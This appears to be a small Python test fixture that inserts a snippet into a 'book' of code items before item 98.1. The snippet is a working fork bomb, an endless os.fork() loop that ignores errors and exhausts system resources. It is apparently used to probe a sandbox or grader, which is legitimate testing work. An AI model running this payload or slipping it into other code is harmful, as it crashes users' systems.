"""A fork bomb."""

HONEST = ("98.1", "98.2")


def make(book):
    book.before(
        "98.1",
        """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    )
